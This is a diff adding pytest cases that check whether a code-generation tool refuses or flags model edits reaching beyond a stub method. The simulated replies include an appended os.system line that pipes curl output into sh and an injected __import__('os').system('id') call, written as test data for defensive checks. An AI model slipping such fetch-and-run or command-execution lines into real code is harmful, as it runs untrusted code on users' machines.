@@ -17,9 +17,17 @@ from pathlib import Path
 import pytest
 from archmem.indexer.workspace import Memory
 from archmem.server.actions import Failure, ModelProvider, ProposedEdit, SelfDebugSettings, self_debug
+from archmem.server.actions.generate import (
+    Generated,
+    GenerateFailure,
+    GenerateTarget,
+    generate,
+    list_generate_targets,
+)
 from archmem.server.actions.offline import OfflineProvider
 from archmem.server.models import ModelClient
 
+from tests.actions.genexplain_projects import client as genexplain_client
 from tests.actions.helpers import ENV, KEY, block, endpoint, model_provider, workspace
 from tests.support.fake_openai import FakeOpenAI, RecordedRequest, garbage, text
 
@@ -488,3 +496,70 @@ def test_cli_fix_exits_0_with_the_offline_fix_when_the_model_answers_garbage(
     assert "+    return json.dumps(helper(x))" in done.stdout
     assert KEY not in done.stderr + done.stdout
     assert file.read_bytes() == BROKEN_COMPUTE
+
+
+GEO = '''import math
+
+
+class Circle:
+    """A circle."""
+
+    sides = 0
+
+    def __init__(self, radius: float) -> None:
+        self.radius = radius
+
+    def area(self) -> float:
+        """The area."""
+        raise NotImplementedError
+'''
+AREA = 'def area(self) -> float:\n    """The area."""\n    return math.pi * self.radius ** 2\n'
+
+
+def geo_target(root: Path) -> GenerateTarget:
+    (root / "geo.py").write_text(GEO)
+    line = GEO.split("\n").index("        raise NotImplementedError")
+    (target,) = [t for t in list_generate_targets(Memory.open(root), "geo.py", line, 8) if t.kind == "body"]
+    return target
+
+
+@pytest.mark.parametrize(
+    ("reply", "outcome", "why"),
+    [
+        (
+            AREA + "\nsides = 10 ** 9\n",
+            "refused",
+            "the edit adds variable 'sides' beside method 'Circle.area'",
+        ),
+        (
+            AREA + "\n\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n",
+            "refused",
+            "beside method 'Circle.area'",
+        ),
+        (
+            AREA.replace("    return", "    __import__('os').system('id')\n    return"),
+            "flagged",
+            "⚠ adds a call to __import__ (runs code)",
+        ),
+    ],
+    ids=["class attribute", "appended os.system", "__import__ in the body"],
+)
+async def test_generate_may_change_only_the_stub(
+    tmp_path: Path, fake_openai: FakeOpenAI, reply: str, outcome: str, why: str
+) -> None:
+    target = geo_target(tmp_path)
+    fake_openai.set_handler(answering(lambda _prompt: reply))
+    async with genexplain_client(fake_openai) as model:
+        result = await generate(Memory.open(tmp_path), "geo.py", target, client=model, rounds=2)
+    if outcome == "refused":
+        assert isinstance(result, GenerateFailure), result
+        assert any(why in problem for problem in result.problems), result.problems
+        assert why in fake_openai.chat_requests[1].prompt
+        return
+    assert isinstance(result, Generated), result
+    assert why in result.edit.title and why in result.edit.summary and why in result.edit.detail
+    async with genexplain_client(fake_openai) as model:
+        strict = await generate(
+            Memory.open(tmp_path), "geo.py", target, client=model, rounds=1, refuse_risky_calls=True
+        )
+    assert isinstance(strict, GenerateFailure), strict
